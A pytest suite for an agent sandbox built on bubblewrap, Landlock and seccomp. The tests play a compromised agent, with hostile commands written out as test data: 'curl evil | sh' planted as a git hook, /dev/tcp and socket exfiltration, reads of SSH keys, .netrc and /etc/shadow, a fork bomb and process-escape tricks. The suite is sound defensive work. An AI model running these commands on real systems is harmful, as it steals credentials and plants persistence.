"""Attacks on the confinement, with the real bubblewrap, Landlock and seccomp.

Each test plays a compromised agent: the command is whatever an attacker wants it to be, and
the assertion is about the host (a listener that must see nothing, a process that must not
survive, a file that must not change). Every loop is bounded in count and time.
"""

from __future__ import annotations

import os
import shutil
import socket
import subprocess
import sys
import threading
import time
import uuid
from collections.abc import Iterator
from pathlib import Path

import pytest

from astrid_workspace import (
    Confinement,
    Limits,
    SandboxUnavailable,
    confined_argv,
    confinement_layers,
    scrubbed_environment,
)
from astrid_workspace import _confine as confine

pytestmark = pytest.mark.skipif(shutil.which("bwrap") is None, reason="needs bubblewrap")


@pytest.fixture(autouse=True, params=["native", "python"])
def launcher(request: pytest.FixtureRequest, monkeypatch: pytest.MonkeyPatch) -> str:
    """Every attack runs against both launchers: the native one and its Python fallback."""
    if request.param == "python":
        monkeypatch.setenv("ASTRID_SANDBOX_LAUNCHER", "python")
    else:
        monkeypatch.delenv("ASTRID_SANDBOX_LAUNCHER", raising=False)
    return str(request.param)


def run(
    script: str,
    confinement: Confinement,
    *,
    cwd: str | None = None,
    timeout: float = 30,
    env: dict[str, str] | None = None,
) -> subprocess.CompletedProcess[str]:
    argv = confined_argv("/bin/bash", ["-c", script], confinement, cwd=cwd)
    return subprocess.run(
        argv,
        env=env if env is not None else scrubbed_environment(),
        cwd=cwd,
        capture_output=True,
        text=True,
        timeout=timeout,
        check=False,
        start_new_session=True,
    )


@pytest.fixture
def ws(tmp_path: Path) -> Path:
    workspace = tmp_path / "ws"
    workspace.mkdir()
    return workspace


def box(ws: Path, **kwargs: object) -> Confinement:
    return Confinement(workspace=str(ws), shell=True, **kwargs)  # type: ignore[arg-type]  # noqa: S604


class Listener:
    """A host server that records every connection (or datagram) it gets."""

    def __init__(self, sock: socket.socket) -> None:
        self.sock = sock
        self.hits: list[bytes] = []
        self.sock.settimeout(0.2)
        self._stop = False
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()

    def _serve(self) -> None:
        while not self._stop:
            try:
                if self.sock.type == socket.SOCK_DGRAM:
                    self.hits.append(self.sock.recv(1024))
                else:
                    conn, _ = self.sock.accept()
                    conn.settimeout(1)
                    try:
                        self.hits.append(conn.recv(1024) or b"<connected>")
                    except OSError:
                        self.hits.append(b"<connected>")
                    conn.close()
            except OSError:
                continue

    def close(self) -> None:
        self._stop = True
        self._thread.join(timeout=2)
        self.sock.close()


@pytest.fixture
def unix_server(tmp_path: Path) -> Iterator[tuple[str, Listener]]:
    # Stands in for tmux, docker.sock, D-Bus or ssh-agent: a host server on a pathname socket.
    path = str(tmp_path / "tmux-0" / "default")
    os.makedirs(os.path.dirname(path))
    sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    sock.bind(path)
    sock.listen(4)
    listener = Listener(sock)
    yield path, listener
    listener.close()


def test_a_host_unix_socket_server_sees_no_connection(
    ws: Path, unix_server: tuple[str, Listener]
) -> None:
    path, listener = unix_server
    connect = (
        "import socket,sys\n"
        "for target in sys.argv[1:]:\n"
        "    s = socket.socket(socket.AF_UNIX)\n"
        "    try:\n"
        "        s.connect(target); s.sendall(b'run-shell cat runtime.key'); print('CONNECTED')\n"
        "    except OSError as e:\n"
        "        print('refused', e)\n"
    )
    # By path, through a symlink planted in the workspace, and by /proc/<host pid>/root.
    (ws / "link").symlink_to(path)
    proc = run(
        f"python3 -c {_q(connect)} {path} {ws}/link /proc/{os.getpid()}/root{path}",
        box(ws, network="none"),
        cwd=str(ws),
    )
    time.sleep(0.3)
    assert "CONNECTED" not in proc.stdout, proc.stdout
    assert listener.hits == []


def test_an_abstract_unix_socket_of_the_host_is_unreachable(ws: Path) -> None:
    name = f"\0astrid-test-{uuid.uuid4().hex}"
    sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    sock.bind(name)
    sock.listen(4)
    listener = Listener(sock)
    try:
        code = (
            f"import socket; s = socket.socket(socket.AF_UNIX); s.connect({name!r}); "
            "print('CONNECTED')"
        )
        proc = run(f"python3 -c {_q(code)}", box(ws, network="none"), cwd=str(ws))
        time.sleep(0.3)
        assert "CONNECTED" not in proc.stdout
        assert listener.hits == []
    finally:
        listener.close()


def _survivors(marker: str) -> list[int]:
    found: list[int] = []
    for entry in Path("/proc").iterdir():
        if not entry.name.isdigit():
            continue
        try:
            if marker.encode() in (entry / "cmdline").read_bytes():
                state = (entry / "stat").read_text().rsplit(")", 1)[1].split()[0]
                if state != "Z":
                    found.append(int(entry.name))
        except OSError:
            continue
    return found


def test_setsid_and_double_fork_survivors_die_with_the_command(ws: Path) -> None:
    seconds = f"3{uuid.uuid4().int % 1000}.5"  # a sleep nobody else runs: our marker
    script = (
        f"setsid -f sleep {seconds}; (sleep {seconds} &) ; "
        f"nohup sleep {seconds} >/dev/null 2>&1 & disown; "
        f"python3 -c 'import os,time\nif os.fork() == 0:\n os.setsid()\n if os.fork() == 0:\n  "
        f'os.execvp("sleep", ["sleep", "{seconds}"])\' ; sleep 0.3; echo started'
    )
    proc = run(script, box(ws, network="none"), cwd=str(ws))
    assert "started" in proc.stdout, proc.stderr
    deadline = time.monotonic() + 5
    while _survivors(f"sleep\0{seconds}") and time.monotonic() < deadline:
        time.sleep(0.05)
    assert _survivors(f"sleep\0{seconds}") == []


LOOPBACK_SPELLINGS = (
    "127.0.0.1",
    "localhost",
    "2130706433",
    "0x7f000001",
    "127.1",
    "0.0.0.0",
    "::1",
    "::ffff:127.0.0.1",
)


@pytest.mark.parametrize("network", ["none", "proxy"])
def test_loopback_tcp_of_the_host_in_every_spelling_and_a_udp_beacon_reach_nothing(
    ws: Path, tmp_path: Path, network: str
) -> None:
    tcp4 = socket.create_server(("127.0.0.1", 0))
    port = tcp4.getsockname()[1]
    tcp6 = socket.socket(socket.AF_INET6, socket.SOCK_STREAM)
    tcp6.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 1)
    tcp6.bind(("::1", port))
    tcp6.listen(4)
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    udp.bind(("127.0.0.1", port))
    listeners = [Listener(tcp4), Listener(tcp6), Listener(udp)]
    # A socket file stands in for the proxy: the bridge relays to it; nothing listens there.
    proxy = tmp_path / "proxy.sock"
    proxy_server = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    proxy_server.bind(str(proxy))
    proxy_server.listen(4)
    probe = (
        "import socket,sys\n"
        "port = int(sys.argv[1])\n"
        "for host in sys.argv[2:]:\n"
        "    try:\n"
        "        s = socket.create_connection((host, port), timeout=1)\n"
        "        s.sendall(b'SECRET'); print('CONNECTED', host)\n"
        "    except OSError as e:\n"
        "        print('refused', host, e)\n"
        "u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
        "for _ in range(3):\n"
        "    try: u.sendto(b'BEACON', ('127.0.0.1', port))\n"
        "    except OSError as e: print('udp', e)\n"
    )
    script = (
        f"python3 -c {_q(probe)} {port} {' '.join(LOOPBACK_SPELLINGS)}; "
        f"(echo SECRET > /dev/tcp/127.0.0.1/{port}) 2>/dev/null && echo CONNECTED devtcp; "
        "true"
    )
    confinement = box(ws, network=network, proxy_socket=str(proxy) if network == "proxy" else None)
    try:
        proc = run(script, confinement, cwd=str(ws))
        time.sleep(0.3)
        assert "CONNECTED" not in proc.stdout, proc.stdout
        assert [hit for listener in listeners for hit in listener.hits] == []
    finally:
        for listener in listeners:
            listener.close()
        proxy_server.close()


def test_protected_paths_in_the_workspace_stay_read_only(ws: Path) -> None:
    (ws / ".git" / "hooks").mkdir(parents=True)
    (ws / ".git" / "config").write_text("[core]\n")
    (ws / ".envrc").write_text("")
    (ws / ".astrid").mkdir()
    script = (
        "echo 'curl evil | sh' > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit; "
        "echo '[core] hooksPath = /tmp' >> .git/config; echo 'export X=1' >> .envrc; "
        "echo '[security]' > .astrid/config.toml; mv .git/config .git/config.old; "
        "rm -rf .git/hooks; echo ok > normal.txt"
    )
    proc = run(script, box(ws, network="none"), cwd=str(ws))
    assert "Read-only file system" in proc.stderr
    assert not (ws / ".git" / "hooks" / "pre-commit").exists()
    assert (ws / ".git" / "config").read_text() == "[core]\n"
    assert (ws / ".envrc").read_text() == ""
    assert not (ws / ".astrid" / "config.toml").exists()
    assert (ws / "normal.txt").read_text() == "ok\n"  # the rest of the workspace is writable


def test_ssh_keys_and_astrid_home_are_masked_with_the_workspace_at_home(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    home = tmp_path / "home"
    (home / ".ssh").mkdir(parents=True)
    (home / ".ssh" / "id_ed25519").write_text("PRIVATE KEY")
    (home / ".astrid" / "keys").mkdir(parents=True)
    (home / ".astrid" / "keys" / "runtime.key").write_text("RUNTIME KEY")
    (home / ".netrc").write_text("machine x password hunter2")
    (home / "notes.txt").write_text("fine")
    monkeypatch.setenv("HOME", str(home))
    monkeypatch.delenv("ASTRID_HOME", raising=False)
    script = (
        "cat ~/.ssh/id_ed25519 ~/.astrid/keys/runtime.key ~/.netrc; ls -A ~/.ssh ~/.astrid; "
        "cat ~/notes.txt"
    )
    proc = run(script, box(home, network="none"), cwd=str(home), env=scrubbed_environment())
    for secret in ("PRIVATE KEY", "RUNTIME KEY", "hunter2"):
        assert secret not in proc.stdout
    assert "fine" in proc.stdout


def test_home_is_empty_except_the_entries_an_admin_lists(
    tmp_path: Path, ws: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    home = tmp_path / "home"
    home.mkdir()
    (home / ".gitconfig").write_text("[user]\nname = a\n")
    (home / "diary.txt").write_text("private")
    monkeypatch.setenv("HOME", str(home))
    proc = run(
        "ls -A ~; cat ~/.gitconfig; echo x >> ~/.gitconfig",
        box(ws, network="none", home_entries=(".gitconfig",)),
        cwd=str(ws),
    )
    assert "diary.txt" not in proc.stdout
    assert "name = a" in proc.stdout
    assert (home / ".gitconfig").read_text() == "[user]\nname = a\n"


def test_the_daemon_and_other_host_processes_are_invisible(ws: Path) -> None:
    me = os.getpid()
    proc = run(
        f"ls /proc | grep -x {me}; cat /proc/{me}/environ; kill -0 {me} && echo SIGNALLED; "
        "ls /proc | grep -cE '^[0-9]+$'",
        box(ws, network="none"),
        cwd=str(ws),
    )
    assert "SIGNALLED" not in proc.stdout
    assert str(me) not in proc.stdout.split()[:-1]
    assert int(proc.stdout.split()[-1]) < 10  # only the sandbox's own few processes


def test_seccomp_refuses_ptrace_namespaces_mounts_io_uring_and_odd_sockets(ws: Path) -> None:
    code = (
        "import ctypes, os, socket\n"
        "libc = ctypes.CDLL(None, use_errno=True)\n"
        "def show(name, rc):\n"
        "    print(name, rc, ctypes.get_errno())\n"
        "show('ptrace', libc.ptrace(0, 0, 0, 0))\n"  # PTRACE_TRACEME
        "show('unshare', libc.unshare(0x10000000))\n"  # CLONE_NEWUSER
        "show('io_uring', libc.syscall(425, 1, ctypes.c_void_p(0)))\n"
        "show('bpf', libc.syscall(321, 0, 0, 0))\n"
        "show('pidfd_getfd', libc.syscall(438, 0, 0, 0))\n"  # another process's sockets
        "for fam in (socket.AF_NETLINK, socket.AF_PACKET, socket.AF_UNIX):\n"
        "    try: socket.socket(fam, socket.SOCK_RAW if fam != 1 else 1); print('s', fam, 'OPEN')\n"
        "    except OSError as e: print('socket', fam, e.errno)\n"
        "a, b = socket.socketpair(); a.send(b'x'); print('socketpair', b.recv(1).decode())\n"
    )
    proc = run(f"python3 -c {_q(code)}", box(ws, network="none"), cwd=str(ws))
    lines = dict(line.split(" ", 1) for line in proc.stdout.splitlines() if line[:1] != "s")
    assert lines["ptrace"] == "-1 1"
    assert lines["unshare"] == "-1 1"
    assert lines["io_uring"] == "-1 1"
    assert lines["bpf"] == "-1 1"
    assert lines["pidfd_getfd"] == "-1 1"
    assert "OPEN" not in proc.stdout
    assert "socket 1 1" in proc.stdout  # socket(AF_UNIX): EPERM, no host socket by any path
    assert "socketpair x" in proc.stdout  # what runtimes use for their children still works
    assert confinement_layers(box(ws)).seccomp


def test_a_fork_bomb_ends_within_the_timeout(ws: Path) -> None:
    if os.geteuid() == 0 and confine._pids_cgroup_root() is None:
        pytest.skip("root is exempt from RLIMIT_NPROC and no pids cgroup is writable here")
    limits = Limits(processes=64, cpu_seconds=5)
    started = time.monotonic()
    with pytest.raises(subprocess.TimeoutExpired):
        run("bomb() { bomb | bomb & }; bomb; sleep 60", box(ws, limits=limits), timeout=4)
    assert time.monotonic() - started < 10
    # The pid namespace died with bubblewrap (killed by the timeout): nothing is left.
    deadline = time.monotonic() + 5
    while _survivors("bomb") and time.monotonic() < deadline:
        time.sleep(0.05)
    assert _survivors("bomb") == []


def test_the_environment_of_a_confined_command_holds_no_keys_or_tokens(
    ws: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    secrets = {
        "ANTHROPIC_API_KEY": "sk-ant-secret",
        "GITHUB_TOKEN": "ghp_secret",
        "AWS_SECRET_ACCESS_KEY": "aws-secret",
        "SSH_AUTH_SOCK": "/tmp/ssh-agent.sock",
        "DBUS_SESSION_BUS_ADDRESS": "unix:path=/run/user/0/bus",
        "BASH_FUNC_x%%": "() { echo pwned; }",
    }
    for name, value in secrets.items():
        monkeypatch.setenv(name, value)
    proc = run("env; cat /proc/self/environ", box(ws, network="none"), cwd=str(ws))
    for name, value in secrets.items():
        assert name not in proc.stdout
        assert value not in proc.stdout


def test_a_missing_bwrap_is_a_refusal_naming_the_package(
    ws: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(confine, "bwrap_path", lambda: None)
    with pytest.raises(SandboxUnavailable) as caught:
        confined_argv("/bin/true", [], box(ws))
    assert "apt-get install bubblewrap" in caught.value.hint
    assert 'sandbox = "landlock"' in caught.value.hint
    layers = confinement_layers(box(ws))
    assert not layers.namespaces
    assert "bubblewrap" in layers.describe()
    # The admin's explicit weaker choice runs, and says what it lacks.
    weak = confinement_layers(box(ws, mode="landlock"))
    assert "no namespaces" in weak.describe()
    assert 'sandbox = "landlock"' in weak.describe()


def _q(text: str) -> str:
    import shlex

    return shlex.quote(text)


def test_the_launcher_in_force_is_the_one_status_names(launcher: str) -> None:
    argv = confined_argv("/bin/true", [], Confinement(network="none"))
    inside = argv[argv.index("--", argv.index(confine.bwrap_path() or "bwrap")) + 1 :]
    described = confinement_layers(Confinement(network="none")).describe()
    if launcher == "native":
        assert shutil.which("cc"), "the machine has a C compiler: the native launcher builds"
        assert inside[0] == "/run/astrid-launcher"
        assert "native launcher" in described
        assert any(a.startswith("--seccomp-bpf=") for a in inside)
    else:
        # -E -s -S from the real interpreter: no site-packages to inject.
        assert inside[0] == os.path.realpath(sys.executable)
        assert inside[1:4] == ["-E", "-s", "-S"]
        assert "Python launcher (ASTRID_SANDBOX_LAUNCHER=python)" in described


@pytest.mark.parametrize("launcher", ["native"], indirect=True)  # about the native one only
def test_a_tampered_native_launcher_is_not_used(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, launcher: str
) -> None:
    from astrid_workspace import _native

    monkeypatch.setenv("ASTRID_HOME", str(tmp_path / "astrid"))
    built = _native.native_launcher()
    assert built is not None
    assert oct(os.stat(tmp_path / "astrid").st_mode & 0o777) == "0o700"
    with open(built, "ab") as binary:
        binary.write(b"\0")  # one byte more: not the binary that was built and checked
    assert _native.native_launcher() is None
    assert "does not match the hash" in _native.native_status()
    argv = confined_argv("/bin/true", [], Confinement(network="none"))
    assert "/run/astrid-launcher" not in argv  # the Python launcher runs instead


def test_a_missing_or_symlinked_hooks_directory_cannot_be_planted(ws: Path) -> None:
    (ws / ".git").mkdir()  # a repository without .git/hooks: it must not be created inside
    proc = run(
        "mkdir -p .git/hooks; echo 'curl evil | sh' > .git/hooks/pre-commit",
        box(ws, network="none"),
        cwd=str(ws),
    )
    assert "Read-only file system" in proc.stderr
    assert not (ws / ".git" / "hooks").exists()  # .git is read-only whole
    other = ws.parent / "repo2"
    (other / ".git").mkdir(parents=True)
    (other / "hooks-real").mkdir()
    (other / ".git" / "hooks").symlink_to(other / "hooks-real")
    run("echo pwned > .git/hooks/post-checkout", box(other, network="none"), cwd=str(other))
    assert not (other / "hooks-real" / "post-checkout").exists()


@pytest.mark.parametrize("path", ["/", "/proc", "/run"])
def test_granting_the_root_or_the_sandboxs_own_mounts_is_refused(path: str) -> None:
    with pytest.raises(SandboxUnavailable, match="cannot be granted"):
        confined_argv("/bin/true", [], Confinement(workspace=path))


@pytest.mark.parametrize("entry", ["home", "parent"])
def test_a_path_entry_at_or_above_home_does_not_mount_the_home(
    tmp_path: Path, ws: Path, monkeypatch: pytest.MonkeyPatch, entry: str
) -> None:
    home = tmp_path / "home"
    (home / ".astrid").mkdir(parents=True)
    (home / "diary.txt").write_text("private")
    (home / ".astrid" / "runtime.key").write_text("RUNTIME KEY")
    monkeypatch.setenv("HOME", str(home))
    monkeypatch.delenv("ASTRID_HOME", raising=False)
    on_path = home if entry == "home" else tmp_path  # PATH=$HOME:... or a dir holding it
    monkeypatch.setenv("PATH", f"{on_path}:/usr/bin:/bin")
    proc = run(
        f"cat {home}/diary.txt {home}/.astrid/runtime.key; ls -A {home}; echo done",
        box(ws, network="none"),
        cwd=str(ws),
    )
    assert "done" in proc.stdout
    assert "private" not in proc.stdout
    assert "RUNTIME KEY" not in proc.stdout
    assert "diary.txt" not in proc.stdout


def test_the_working_directory_inside_the_workspace_stays_writable(ws: Path) -> None:
    sub = ws / "sub"
    sub.mkdir()
    proc = run("echo ok > made.txt", box(ws, network="none", read_paths=(str(sub),)), cwd=str(sub))
    assert proc.returncode == 0, proc.stderr
    assert (sub / "made.txt").read_text() == "ok\n"


def test_landlock_alone_with_the_proxy_network_is_refused(ws: Path) -> None:
    # Without a network namespace, HTTP(S)_PROXY is a suggestion: the host network is open.
    confinement = Confinement(mode="landlock", workspace=str(ws), network="proxy")
    with pytest.raises(SandboxUnavailable, match="needs the bubblewrap sandbox"):
        confined_argv("/bin/true", [], confinement)


@pytest.mark.parametrize("launcher", ["native"], indirect=True)  # about the native one only
def test_the_native_launcher_applies_landlock_by_itself(tmp_path: Path, launcher: str) -> None:
    # Outside bubblewrap, so only the launcher's own Landlock stands between cat and the file.
    from astrid_workspace import landlock_abi
    from astrid_workspace._native import native_launcher

    if landlock_abi() == 0:
        pytest.skip("about the native launcher's Landlock")
    native = native_launcher()
    assert native is not None
    secret = tmp_path / "secret.txt"
    secret.write_text("hunter2")
    grants = [f"--read={p}" for p in ("/usr", "/lib", "/lib64", "/bin", "/etc")]
    proc = subprocess.run(
        [native, *grants, "--", "/bin/cat", str(secret)],
        capture_output=True,
        text=True,
        check=False,
    )
    assert "hunter2" not in proc.stdout
    assert "Permission denied" in proc.stderr
    allowed = subprocess.run(
        [native, *grants, f"--read={tmp_path}", "--", "/bin/cat", str(secret)],
        capture_output=True,
        text=True,
        check=False,
    )
    assert allowed.stdout == "hunter2"


def test_etc_inside_holds_only_the_listed_entries_read_only(ws: Path) -> None:
    from astrid_workspace._etc import etc_view

    proc = run(
        "cat /etc/shadow; head -c 5 /etc/passwd; echo; ls /etc/ssl/certs | head -1; "
        "echo '1.2.3.4 evil' >> /etc/hosts; getent hosts localhost",
        box(ws, network="none"),
        cwd=str(ws),
    )
    assert "root:" in proc.stdout  # passwd, the CA bundle and name resolution work
    assert "localhost" in proc.stdout
    assert "No such file" in proc.stderr  # no /etc/shadow at all
    assert "Read-only file system" in proc.stderr or "Permission denied" in proc.stderr
    view = etc_view()
    assert view is not None
    assert "evil" not in Path(view, "hosts").read_text()


def test_a_command_reached_through_a_symlinked_directory_runs(tmp_path: Path, ws: Path) -> None:
    real = tmp_path / "tools-real" / "bin"
    real.mkdir(parents=True)
    tool = real / "tool"
    tool.write_text("#!/bin/sh\necho tool ran\n")
    tool.chmod(0o755)
    (tmp_path / "tools").symlink_to(tmp_path / "tools-real")  # e.g. a worktree's .cache
    argv = confined_argv(str(tmp_path / "tools" / "bin" / "tool"), [], box(ws, network="none"))
    proc = subprocess.run(argv, capture_output=True, text=True, timeout=30, check=False)
    assert proc.stdout == "tool ran\n", proc.stderr
